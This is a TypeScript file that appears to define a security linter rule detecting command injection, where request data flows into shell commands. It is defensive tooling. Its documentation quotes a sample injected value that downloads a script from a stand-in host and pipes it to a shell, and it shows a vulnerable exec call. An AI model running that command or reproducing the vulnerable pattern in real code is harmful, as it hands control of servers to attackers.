import { type InjectionData, injections } from '../../engine/injection.ts';
import { defineRule } from '../../engine/rule.ts';

export const commandInjection = defineRule<InjectionData>({
  meta: {
    id: 'command-injection',
    family: 'validation',
    severity: 'error',
    needs: 'flow',
    docs: {
      why: 'A value that becomes part of a command line brings commands of its own along: `; curl evil.sh | sh`. Whoever sends it owns the machine.',
      bad: 'exec(`convert ${req.query.file} out.png`);',
      good: "execFile('convert', [file, 'out.png']);",
      silent: [
        'arguments in a list that no shell reads',
        'numbers, and what was compared with a list or a strict pattern',
      ],
    },
    withoutFix:
      "A shell's pipes, globs and redirects have no one form without a shell: `execFile` takes a program and a list, and only you know which text is which.",
  },
  check: (ctx) =>
    injections(['command'], ctx, { severity: 'error', isHarmless: ({ facts }) => facts.runtime === 'browser' }),
  message: ({ source, called, isElsewhere }) =>
    `\`${source}\` becomes part of the command that \`${called}\` runs${isElsewhere ? ' further on' : ''}: whoever sends it can run any command on the server.`,
  fixes: [],
});
